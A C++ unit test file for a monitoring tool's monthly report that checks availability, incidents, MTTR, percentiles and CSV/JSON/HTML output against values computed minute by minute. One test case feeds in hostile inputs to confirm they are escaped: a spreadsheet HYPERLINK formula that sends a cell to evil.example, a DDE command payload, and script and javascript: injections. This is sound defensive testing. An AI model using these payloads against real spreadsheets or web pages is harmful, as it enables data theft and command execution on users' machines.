// The monthly report's figures on a generated month: a temporary state store holds known
// outages, perfdata and notifications; availability (overall and within business hours),
// incidents, MTTR, percentiles and notification counts are checked against values computed here
// minute by minute, without the report's code.
#include "cmd/hmon-check/report.hpp"

#include <doctest/doctest.h>

#include <algorithm>
#include <cmath>
#include <filesystem>
#include <map>
#include <random>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "common/calendar.hpp"
#include "common/calendar_load.hpp"
#include "common/state.hpp"
#include "common/yaml_doc.hpp"
#include "tests/unit/testing/peer.hpp"

using namespace hops;
using namespace hops::mon;

namespace {

constexpr int64_t kMin = 60'000;
constexpr int64_t kHour = 60 * kMin;
constexpr int64_t kDay = 24 * kHour;
/// 2026-11-01T00:00+09:00, the start of November 2026 in Asia/Tokyo.
constexpr int64_t kMonth = 1'793'458'800'000;
constexpr int64_t kMonthEnd = kMonth + 30 * kDay;

/// A number in [0, n) from @p rng (an engine gives the same numbers on every platform; the
/// standard distributions do not).
int64_t Below(std::minstd_rand& rng, int64_t n) { return int64_t(rng() % uint64_t(n)); }

/// A problem period of one key: [start, end), end 0 = still open.
struct Outage {
  std::string key, state;
  int64_t start, end;
};

/// Business hours as this test defines them, independently of the calendar code: Mon-Fri
/// 09:00-18:00 Tokyo (UTC+9, no DST), except 2026-11-03 (closed).
bool InBusinessHours(int64_t ms) {
  const int64_t local = ms + 9 * kHour;
  const int64_t day = local / kDay;  // days since 1970-01-01, a Thursday
  const int weekday = int((day + 4) % 7);  // 0 = Sunday
  const int64_t hour = local % kDay / kHour;
  const bool closed_day = day == (kMonth + 9 * kHour) / kDay + 2;  // 2026-11-03
  return weekday >= 1 && weekday <= 5 && !closed_day && hour >= 9 && hour < 18;
}

const char* kCalendar = R"(version: 1
calendars:
  biz:
    timezone: Asia/Tokyo
    weekdays: mon-fri
    hours: "09:00-18:00"
    closed:
      - {date: 2026-11-03, name: closed}
)";

/// The input of a report of November 2026 in Tokyo (kMonth), with @p instances, generated after
/// @p now_ms.
report::Input November(std::vector<report::InstanceInfo> instances, int64_t now_ms = kMonthEnd) {
  report::Input in;
  in.month = "2026-11";
  in.span = {kMonth, kMonthEnd};
  in.now_ms = now_ms;
  in.instances = std::move(instances);
  return in;
}

/// A monitor without a node, named @p key, graphing @p labels.
report::InstanceInfo Monitor(const std::string& key, std::vector<std::string> labels = {}) {
  report::InstanceInfo i;
  i.key = i.monitor = key;
  i.labels = std::move(labels);
  return i;
}

}  // namespace

TEST_CASE("report: availability, incidents, MTTR, percentiles and notifications of a generated month") {
  const std::string dir = testing::MakeTempDir("hops-report");
  {
    auto store = StateStore::Open(dir + "/state.db");
    const std::vector<std::string> keys = {"web/n1", "web/n2", "db"};
    std::vector<StatusChange> changes;
    for (const auto& k : keys) changes.push_back({k, kMonth - kDay, "", "ok", "first check"});
    // Outages: six a key at random minutes, apart from each other, plus one that started before
    // the month (web/n2) and one still open at its end (db).
    std::vector<Outage> outages;
    std::minstd_rand rng{42};
    for (const auto& k : keys) {
      int64_t t = kMonth + 4 * kHour;  // after web/n2's outage from before the month
      for (int i = 0; i < 6; ++i) {
        const int64_t start = t + (1 + Below(rng, 3 * 24 * 60)) * kMin;
        const int64_t end = start + (1 + Below(rng, 300)) * kMin;
        const char* states[] = {"critical", "warning", "unknown"};
        outages.push_back({k, states[Below(rng, 3)], start, end});
        t = end;
      }
    }
    outages.push_back({"web/n2", "critical", kMonth - 2 * kHour, kMonth + 3 * kHour});
    outages.push_back({"db", "critical", kMonthEnd - 90 * kMin, 0});
    std::vector<Delivery> deliveries;
    int64_t expected_sent = 0, expected_failed = 0;
    auto deliver = [&](const std::string& key, int64_t t, const char* channel, const char* outcome) {
      Delivery d;
      d.time_ms = t;
      d.event_key = "hmon-check/" + key;
      d.event_kind = "monitor.result";
      d.channel = channel;
      d.channel_type = "email";
      d.outcome = outcome;
      deliveries.push_back(d);
      if (t >= kMonth && t < kMonthEnd) (std::string(outcome) == "sent" ? expected_sent : expected_failed) += 1;
    };
    for (size_t i = 0; i < outages.size(); ++i) {
      const Outage& o = outages[i];
      changes.push_back({o.key, o.start, "ok", o.state, o.key + " " + o.state});
      deliver(o.key, o.start + 30'000, "mail", "sent");
      deliver(o.key, o.start + 31'000, "slack", i % 2 ? "sent" : "dropped");
      if (o.end) {
        changes.push_back({o.key, o.end, o.state, "ok", "recovered"});
        deliver(o.key, o.end + 30'000, "mail", "sent");
      }
    }
    // Not counted: another tool's event, an ad-hoc message, a key the report does not cover.
    Delivery other;
    other.time_ms = kMonth + kDay;
    other.channel = "mail";
    other.outcome = "sent";
    other.event_key = "hjob-run/backup";
    deliveries.push_back(other);
    other.event_key = "";
    deliveries.push_back(other);
    other.event_key = "hmon-check/gone/n9";
    deliveries.push_back(other);
    // db is suppressed (its calendar closed) for six hours on the 25th, after the generated
    // outages (at most 19 days and 21 hours in): no data, not downtime.
    const int64_t sup = kMonth + 24 * kDay;
    changes.push_back({"db", sup, "ok", "suppressed", "closed"});
    changes.push_back({"db", sup + 6 * kHour, "suppressed", "ok", "open"});
    store->AppendStatusChanges(changes);
    store->AppendDeliveries(deliveries);

    // Perfdata: web/n1 response times every 5 minutes, a label not graphed, and samples just
    // outside the month.
    std::vector<PerfSample> samples;
    std::vector<double> values;
    for (int64_t t = kMonth; t < kMonthEnd; t += 5 * kMin) {
      const double v = double(Below(rng, 100000)) / 1000.0;
      values.push_back(v);
      samples.push_back({"web/n1", "time", t, v, "s"});
      samples.push_back({"web/n1", "size", t, 1000, "B"});
    }
    samples.push_back({"web/n1", "time", kMonth - 1, 1e9, "s"});
    samples.push_back({"web/n1", "time", kMonthEnd, -1e9, "s"});
    store->AppendPerfSamples(samples);

    // The calendar.
    cal::Registry reg;
    reg.AddDocument(YamlDoc::FromString(kCalendar, "cal.yaml"));
    reg.Resolve();
    REQUIRE(reg.errors().empty());
    const cal::Calendar& biz = reg.Find("biz");

    report::Input in;
    in.month = "2026-11";
    in.span = *report::MonthSpan("2026-11", biz.Zone());
    CHECK(in.span == report::Span{kMonth, kMonthEnd});
    in.now_ms = kMonthEnd + kDay;
    in.zone = biz.Zone();
    in.calendar = "biz";
    in.open = report::OpenSpans(biz, in.span);
    in.closed_days = report::ClosedDays(biz, in.span);
    for (const auto& k : keys) {
      report::InstanceInfo i;
      i.key = k;
      i.monitor = k.substr(0, k.find('/'));
      i.node = k.find('/') == std::string::npos ? "" : k.substr(k.find('/') + 1);
      i.type = i.monitor == "web" ? "http" : "tcp";
      i.thresholds = {{"time", {50.0, 90.0}}};
      in.instances.push_back(i);
    }
    const report::Report r = report::Build(store.get(), in);

    // Expected state times, minute by minute.
    std::map<std::string, std::map<std::string, int64_t>> all, business;
    for (const auto& k : keys) {
      for (int64_t t = kMonth; t < kMonthEnd; t += kMin) {
        std::string state = "ok";
        for (const Outage& o : outages)
          if (o.key == k && t >= o.start && (o.end == 0 || t < o.end)) state = o.state;
        if (k == "db" && t >= sup && t < sup + 6 * kHour) state = "no_data";
        all[k][state] += kMin;
        if (InBusinessHours(t)) business[k][state] += kMin;
      }
    }
    auto availability = [](std::map<std::string, int64_t> m) {
      return double(m["ok"] + m["warning"]) / double(m["ok"] + m["warning"] + m["critical"] + m["unknown"]);
    };
    REQUIRE(r.instances.size() == 3);
    for (const report::Availability& a : r.instances) {
      CAPTURE(a.key);
      auto& e = all[a.key];
      CHECK(a.all.ok == e["ok"]);
      CHECK(a.all.warning == e["warning"]);
      CHECK(a.all.critical == e["critical"]);
      CHECK(a.all.unknown == e["unknown"]);
      CHECK(a.all.no_data == e["no_data"]);
      CHECK(*a.all.Availability() == doctest::Approx(availability(e)).epsilon(1e-12));
      auto& b = business[a.key];
      CHECK(a.business.ok == b["ok"]);
      CHECK(a.business.critical == b["critical"]);
      CHECK(a.business.Monitored() == b["ok"] + b["warning"] + b["critical"] + b["unknown"]);
      CHECK(*a.business.Availability() == doctest::Approx(availability(b)).epsilon(1e-12));
    }
    // Business hours: 20 weekdays of 9 hours (21 Mon-Fri days, less the closed 3rd).
    int64_t open = 0;
    for (const auto& s : in.open) open += s.second - s.first;
    CHECK(open == 20 * 9 * kHour);
    // Closed: the 1st (a Sunday), the 3rd, and four weekends.
    CHECK(in.closed_days.size() == 6);
    CHECK(in.closed_days[1] == report::Span{kMonth + 2 * kDay, kMonth + 3 * kDay});

    // Totals over every check, and per node.
    std::map<std::string, int64_t> total;
    for (auto& [k, m] : all)
      for (auto& [s, v] : m) total[s] += v;
    CHECK(*r.total.all.Availability() == doctest::Approx(availability(total)).epsilon(1e-12));
    REQUIRE(r.nodes.size() == 2);
    CHECK(r.nodes[0].key == "n1");
    CHECK(r.nodes[0].all.critical == all["web/n1"]["critical"]);
    REQUIRE(r.monitors.size() == 2);
    CHECK(r.monitors[1].key == "web");
    CHECK(r.monitors[1].instances == 2);

    // Incidents: every outage, the open one without an end; MTTR over those that ended.
    CHECK(r.incidents.size() == outages.size());
    int64_t ended = 0, sum = 0;
    for (const Outage& o : outages)
      if (o.end) ++ended, sum += o.end - o.start;
    REQUIRE(r.mttr_ms);
    CHECK(*r.mttr_ms == sum / ended);
    int open_incidents = 0;
    for (const report::Incident& i : r.incidents) {
      CAPTURE(i.key);
      CAPTURE(i.start_ms);
      const auto o = std::find_if(outages.begin(), outages.end(),
                                  [&](const Outage& x) { return x.key == i.key && x.start == i.start_ms; });
      REQUIRE(o != outages.end());
      CHECK(i.state == o->state);
      CHECK(i.end_ms == o->end);
      CHECK(i.duration_ms == (o->end ? o->end - o->start : kMonthEnd - o->start));
      CHECK(i.summary == o->key + " " + o->state);
      CHECK(i.notifications.size() == (o->end ? 3u : 2u));
      open_incidents += i.end_ms == 0;
    }
    CHECK(open_incidents == 1);
    CHECK(r.notifications_sent == expected_sent);
    CHECK(r.notifications_failed == expected_failed);

    // Percentiles: sorted independently, nearest rank.
    REQUIRE(r.series.size() == 1);  // web/n1 time; "size" is not a default label of http
    const report::Series& s = r.series.front();
    CHECK(s.key == "web/n1");
    CHECK(s.label == "time");
    std::vector<double> sorted = values;
    std::sort(sorted.begin(), sorted.end());
    CHECK(s.count == int64_t(values.size()));
    CHECK(s.min == sorted.front());
    CHECK(s.max == sorted.back());
    double mean = 0;
    for (double v : values) mean += v;
    mean /= double(values.size());
    CHECK(s.avg == doctest::Approx(mean).epsilon(1e-12));
    const size_t rank = (values.size() * 95 + 99) / 100 - 1;  // ceil(0.95 n) - 1
    REQUIRE(s.p95);
    CHECK(*s.p95 == sorted[rank]);
    CHECK(*s.thresholds.warning == 50.0);
    int64_t in_buckets = 0;
    for (const auto& b : s.buckets) in_buckets += b.count;
    CHECK(in_buckets == s.count);
    CHECK(int(s.buckets.size()) == in.points);

    // The HTML holds one chart for n1 and every incident row; JSON and CSV parse.
    const std::string html = report::RenderHtml(r, "en");
    size_t svgs = 0;
    for (size_t p = html.find("<svg"); p != std::string::npos; p = html.find("<svg", p + 1)) ++svgs;
    CHECK(svgs == 1);
    size_t rows = 0;
    for (size_t p = html.find("<tr class=\"incident"); p != std::string::npos; p = html.find("<tr class=\"incident", p + 1))
      ++rows;
    CHECK(rows == outages.size());
    const auto j = nlohmann::json::parse(report::RenderJson(r));
    CHECK(j["summary"]["incidents"] == outages.size());
    CHECK(j["summary"]["notifications_sent"] == expected_sent);
  }
  std::filesystem::remove_all(dir);
}

TEST_CASE("report: labels follow the report key, and pruned raw samples leave the hourly roll-ups") {
  const std::string dir = testing::MakeTempDir("hops-report");
  {
    auto store = StateStore::Open(dir + "/state.db");
    std::vector<PerfSample> samples;
    for (int64_t t = kMonth; t < kMonth + 2 * kDay; t += 10 * kMin) {
      samples.push_back({"app", "queue", t, double(t / kMin % 60), ""});
      samples.push_back({"app", "time", t, 1, "s"});
      samples.push_back({"cpu/n1", "busy_pct", t, 50, "%"});
    }
    store->AppendPerfSamples(samples);
    report::Input in;
    in.month = "2026-11";
    in.span = {kMonth, kMonthEnd};
    in.now_ms = kMonthEnd;
    report::InstanceInfo app;
    app.key = app.monitor = "app";
    app.type = "command";
    app.labels = {"queue"};
    report::InstanceInfo cpu;
    cpu.key = "cpu/n1";
    cpu.monitor = "cpu";
    cpu.node = "n1";
    cpu.type = "cpu";
    in.instances = {app, cpu};
    auto labels = [&](const report::Report& r) {
      std::vector<std::string> out;
      for (const auto& s : r.series) out.push_back(s.key + ":" + s.label);
      return out;
    };
    CHECK(labels(report::Build(store.get(), in)) == std::vector<std::string>{"app:queue", "cpu/n1:busy_pct"});
    in.instances[0].labels = {"*"};
    in.instances[1].no_graphs = true;
    CHECK(labels(report::Build(store.get(), in)) == std::vector<std::string>{"app:queue", "app:time"});
    // Raw samples gone: min, average and maximum from the hourly roll-ups, no percentile.
    store->PrunePerfSamples(kMonthEnd);
    const report::Report r = report::Build(store.get(), in);
    REQUIRE(r.series.size() == 2);
    CHECK(r.series[0].count == 2 * 24 * 6);
    CHECK(r.series[0].min == 0);
    CHECK(r.series[0].max == 50);
    CHECK_FALSE(r.series[0].p95);
  }
  std::filesystem::remove_all(dir);
}

TEST_CASE("report: a month is read in the report's zone, and only as YYYY-MM") {
  CHECK(report::MonthSpan("2026-11", nullptr) == report::Span{1'793'491'200'000, 1'796'083'200'000});
  CHECK(report::MonthSpan("2026-12", nullptr)->second == 1'798'761'600'000);  // 2027-01-01Z
  for (const char* bad : {"2026-13", "2026-00", "2026-1", "202611", "november", "2026-11-01", "1999-12", ""})
    CHECK_FALSE(report::MonthSpan(bad, nullptr));
}

TEST_CASE("report: a check with no change before the month was monitored: OK since its first run, or the log pruned") {
  const std::string dir = testing::MakeTempDir("hops-report");
  {
    auto store = StateStore::Open(dir + "/state.db");
    auto status = [&](const std::string& key, const std::string& state, int64_t changed) {
      MonitorStatus s;
      s.key = key;
      s.state = s.hard_state = state;
      s.last_summary = key + " summary";
      s.last_change_ms = changed;
      s.last_check_ms = kMonthEnd + 10 * kDay;
      store->PutMonitorStatuses({s});
    };
    // A run logs no change for a first result that is OK: "steady" (first run before the month)
    // and "new" (first run on day 10) have only their status. "pruned" lost its changes before
    // the month and was critical for an hour on day 10; "later" was warning until 4 days after
    // the month; "born" first ran after it; "never" never ran.
    status("steady", "ok", kMonth - 5 * kDay);
    status("new", "ok", kMonth + 10 * kDay);
    status("pruned", "ok", kMonth + 10 * kDay + kHour);
    status("later", "ok", kMonthEnd + 4 * kDay);
    status("born", "critical", kMonthEnd + kDay);
    store->AppendStatusChanges({{"pruned", kMonth + 10 * kDay, "ok", "critical", "down"},
                                {"pruned", kMonth + 10 * kDay + kHour, "critical", "ok", "up"},
                                {"later", kMonthEnd + 4 * kDay, "warning", "ok", "fixed"},
                                {"born", kMonthEnd + kDay, "", "critical", "first"}});
    report::Input in = November({}, kMonthEnd + 10 * kDay);
    for (const char* key : {"steady", "new", "pruned", "later", "born", "never"}) in.instances.push_back(Monitor(key));
    auto times = [](const report::Report& r) {
      std::map<std::string, report::StateTimes> out;
      for (const auto& a : r.instances) {
        out[a.key] = a.all;
        CHECK(a.all.Monitored() + a.all.no_data == kMonthEnd - kMonth);
      }
      return out;
    };
    report::Report r = report::Build(store.get(), in);
    auto t = times(r);
    CHECK(t["steady"].ok == 30 * kDay);
    CHECK(t["new"].ok == 20 * kDay);
    CHECK(t["new"].no_data == 10 * kDay);
    CHECK(t["pruned"].ok == 30 * kDay - kHour);
    CHECK(t["pruned"].critical == kHour);
    CHECK(t["later"].warning == 30 * kDay);
    CHECK(t["born"].no_data == 30 * kDay);
    CHECK(t["never"].no_data == 30 * kDay);
    REQUIRE(r.incidents.size() == 2);
    CHECK(r.incidents[0].key == "later");  // open since (at least) the month's start
    CHECK(r.incidents[0].start_ms == kMonth);
    CHECK(r.incidents[1].key == "pruned");
    CHECK(r.incidents[1].duration_ms == kHour);
    // The month still running: known time ends now.
    in.now_ms = kMonth + 15 * kDay;
    t = times(report::Build(store.get(), in));
    CHECK(t["steady"].ok == 15 * kDay);
    CHECK(t["new"].ok == 5 * kDay);
    CHECK(t["pruned"].critical == kHour);
    // A month before every check: nothing known.
    in.span = {kMonth - 30 * kDay, kMonth};
    in.now_ms = kMonthEnd + 10 * kDay;
    t = times(report::Build(store.get(), in));
    CHECK(t["steady"].ok == 5 * kDay);
    CHECK(t["new"].ok == 0);
    // No store at all (nothing ever ran): every check without data, nothing read or written.
    const report::Report none = report::Build(nullptr, in);
    CHECK(none.instances.size() == 6);
    CHECK(none.total.all.no_data == 6 * 30 * kDay);
    CHECK(none.series.empty());
  }
  std::filesystem::remove_all(dir);
}

TEST_CASE("report: a month with a DST change lasts its real length, and February its 28 days") {
  const TimeZone* ny = FindZone("America/New_York");
  const auto nov = report::MonthSpan("2026-11", ny);
  REQUIRE(nov);
  CHECK(nov->second - nov->first == 30 * kDay + kHour);  // 1 November: 02:00 EDT -> 01:00 EST
  const auto mar = report::MonthSpan("2026-03", ny);
  CHECK(mar->second - mar->first == 31 * kDay - kHour);
  const auto feb = report::MonthSpan("2026-02", nullptr);
  CHECK(feb->second - feb->first == 28 * kDay);
  const std::string dir = testing::MakeTempDir("hops-report");
  {
    auto store = StateStore::Open(dir + "/state.db");
    store->AppendStatusChanges({{"web", nov->first - kDay, "", "critical", "down"},
                                {"web", nov->first + 2 * kDay, "critical", "ok", "up"}});
    report::Input in = November({Monitor("web")}, nov->second + kDay);
    in.span = *nov;
    in.zone = ny;
    const report::Report r = report::Build(store.get(), in);
    CHECK(r.total.all.Monitored() == 30 * kDay + kHour);
    CHECK(r.total.all.critical == 2 * kDay);
    const auto j = nlohmann::json::parse(report::RenderJson(r));
    CHECK(j["from"] == "2026-11-01T00:00:00-04:00");
    CHECK(j["until"] == "2026-12-01T00:00:00-05:00");
  }
  std::filesystem::remove_all(dir);
}

namespace {

/// The rows of @p csv (RFC 4180: quoted fields may hold commas, quotes and line breaks).
std::vector<std::vector<std::string>> ParseCsv(const std::string& csv) {
  std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
  bool quoted = false;
  for (size_t i = 0; i < csv.size(); ++i) {
    const char c = csv[i];
    if (quoted) {
      if (c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') rows.back().back() += '"', ++i;
      else if (c == '"') quoted = false;
      else rows.back().back() += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().emplace_back();
    } else if (c == '\n') {
      rows.emplace_back(1);
    } else {
      rows.back().back() += c;
    }
  }
  if (rows.back().size() == 1 && rows.back()[0].empty()) rows.pop_back();
  return rows;
}

}  // namespace

TEST_CASE("report: hostile ids, summaries and runbooks stay data in CSV, JSON and HTML") {
  const std::string dir = testing::MakeTempDir("hops-report");
  {
    auto store = StateStore::Open(dir + "/state.db");
    const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    const std::string long_summary = "line1\nline2, \"quoted\" " + std::string(10 * 1024, 'x') + " \xff\xfe end";
    const std::string key = "web,\"x\"/-n1";
    store->AppendStatusChanges({{key, kMonth + kDay, "", "critical", formula},
                                {key, kMonth + 2 * kDay, "critical", "ok", "up"},
                                {"db", kMonth + kDay, "", "warning", long_summary},
                                {"db", kMonth + 2 * kDay, "warning", "ok", "up"},
                                {"app", kMonth + kDay, "", "unknown", "@SUM(1+1)*cmd|' /C calc'!A0"}});
    report::InstanceInfo web;
    web.key = key;
    web.monitor = "web,\"x\"";
    web.node = "-n1";
    web.runbook = "+1 call </style><script>alert(1)</script>";
    report::InstanceInfo db = Monitor("db");
    db.runbook = "javascript:alert(1)";
    const report::Report r = report::Build(store.get(), November({web, db, Monitor("app")}));
    REQUIRE(r.incidents.size() == 3);

    const auto rows = ParseCsv(report::RenderCsv(r));
    const size_t width = rows.front().size();
    std::vector<std::vector<std::string>> incidents;
    for (const auto& row : rows) {
      CHECK(row.size() == width);  // no field broke out of its row
      if (row[0] == "incident") incidents.push_back(row);
    }
    REQUIRE(incidents.size() == 3);
    std::map<std::string, std::vector<std::string>> by_monitor;
    for (const auto& row : incidents) by_monitor[row[2]] = row;
    // A field a spreadsheet would run as a formula opens as text: a leading apostrophe.
    CHECK(by_monitor.at("web,\"x\"")[25] == "'" + formula);
    CHECK(by_monitor.at("web,\"x\"")[3] == "'-n1");
    CHECK(by_monitor.at("web,\"x\"")[26] == "'+1 call </style><script>alert(1)</script>");
    CHECK(by_monitor.at("app")[25].rfind("'@SUM", 0) == 0);
    // The long summary comes back whole, its invalid bytes as U+FFFD.
    CHECK(by_monitor.at("db")[25].size() > 10 * 1024);
    CHECK(by_monitor.at("db")[25].rfind("line1\nline2, \"quoted\" ", 0) == 0);
    CHECK(by_monitor.at("db")[25].find("\xEF\xBF\xBD\xEF\xBF\xBD end") != std::string::npos);

    const auto j = nlohmann::json::parse(report::RenderJson(r));  // valid JSON despite the bytes
    CHECK(j["incidents"].size() == 3);

    const std::string html = report::RenderHtml(r, "en");
    CHECK(html.find("<script") == std::string::npos);
    CHECK(html.find("</style><") == std::string::npos);
    CHECK(html.find("href=\"javascript") == std::string::npos);
    CHECK(html.find("\xff") == std::string::npos);
  }
  std::filesystem::remove_all(dir);
}

TEST_CASE("report: a month that has not begun knows nothing: no data, no incident") {
  const std::string dir = testing::MakeTempDir("hops-report");
  {
    auto store = StateStore::Open(dir + "/state.db");
    store->AppendStatusChanges({{"web", kMonth + kDay, "", "critical", "down since the 2nd"}});
    report::Input in = November({Monitor("web")}, kMonth + 5 * kDay);
    in.month = "2026-12";
    in.span = {kMonthEnd, kMonthEnd + 31 * kDay};
    report::Report r = report::Build(store.get(), in);
    CHECK(r.total.all.no_data == 31 * kDay);
    CHECK(r.incidents.empty());
    // The month running: the incident open since before it shows, up to now.
    in.now_ms = kMonthEnd + kDay;
    r = report::Build(store.get(), in);
    REQUIRE(r.incidents.size() == 1);
    CHECK(r.incidents[0].duration_ms == (kMonthEnd + kDay) - (kMonth + kDay));  // from its start to now
    CHECK(r.total.all.critical == kDay);
  }
  std::filesystem::remove_all(dir);
}

TEST_CASE("report: a monitor renamed or removed mid-month is known until its last check, not to the month's end") {
  const std::string dir = testing::MakeTempDir("hops-report");
  {
    auto store = StateStore::Open(dir + "/state.db");
    auto status = [&](const std::string& key, const std::string& state, int64_t changed, int64_t checked) {
      MonitorStatus s;
      s.key = key;
      s.state = s.hard_state = state;
      s.last_change_ms = changed;
      s.last_check_ms = checked;
      store->PutMonitorStatuses({s});
    };
    // "web" became "www" on day 15 (the last check of web, the first of www: OK, so no change
    // logged); "db" was removed on day 20 while critical; "old" was removed last month.
    store->AppendStatusChanges({{"web", kMonth - kDay, "", "ok", "first"},
                                {"db", kMonth - kDay, "", "ok", "first"},
                                {"db", kMonth + 19 * kDay, "ok", "critical", "down"},
                                {"old", kMonth - 10 * kDay, "", "warning", "first"}});
    status("web", "ok", kMonth - kDay, kMonth + 15 * kDay);
    status("www", "ok", kMonth + 15 * kDay, kMonthEnd + kDay);
    status("db", "critical", kMonth + 19 * kDay, kMonth + 20 * kDay);
    status("old", "warning", kMonth - 10 * kDay, kMonth - 5 * kDay);
    report::Input in = November({Monitor("www")}, kMonthEnd + 2 * kDay);
    in.include_unlisted = true;
    const report::Report r = report::Build(store.get(), in);
    std::map<std::string, report::StateTimes> t;
    for (const auto& a : r.instances) t[a.key] = a.all;
    CHECK(t.size() == 3);  // not "old"
    CHECK(t["web"].ok == 15 * kDay);
    CHECK(t["web"].no_data == 15 * kDay);
    CHECK(t["www"].ok == 15 * kDay);
    CHECK(t["db"].ok == 19 * kDay);
    CHECK(t["db"].critical == kDay);
    CHECK(t["db"].no_data == 10 * kDay);
    REQUIRE(r.incidents.size() == 1);
    CHECK(r.incidents[0].duration_ms == kDay);
  }
  std::filesystem::remove_all(dir);
}

TEST_CASE("report: graphs of values near the ends of double's range stay drawable") {
  const std::string dir = testing::MakeTempDir("hops-report");
  {
    auto store = StateStore::Open(dir + "/state.db");
    std::vector<PerfSample> samples;
    for (int64_t t = kMonth; t < kMonth + kDay; t += kHour) {
      samples.push_back({"app", "flat", t, -1e308, ""});
      samples.push_back({"app", "huge", t, t % (2 * kHour) ? 1e308 : -1e308, ""});
      samples.push_back({"app", "big", t, -1e17, ""});
    }
    store->AppendPerfSamples(samples);
    const report::Report r = report::Build(store.get(), November({Monitor("app", {"*"})}));
    REQUIRE(r.series.size() == 3);
    const std::string html = report::RenderHtml(r, "en");
    // Every coordinate of the graphs is a small number: no NaN, no overflowed integer.
    for (const char* bad : {"nan", "inf", "-9223372036854775808", "000000000000000000"})
      CHECK_MESSAGE(html.find(bad) == std::string::npos, bad);
    CHECK(html.find("-1e+308") != std::string::npos);  // the caption's minimum
    size_t bands = 0;
    for (size_t p = html.find("class=\"band\""); p != std::string::npos; p = html.find("class=\"band\"", p + 1)) ++bands;
    CHECK(bands == 3);
  }
  std::filesystem::remove_all(dir);
}
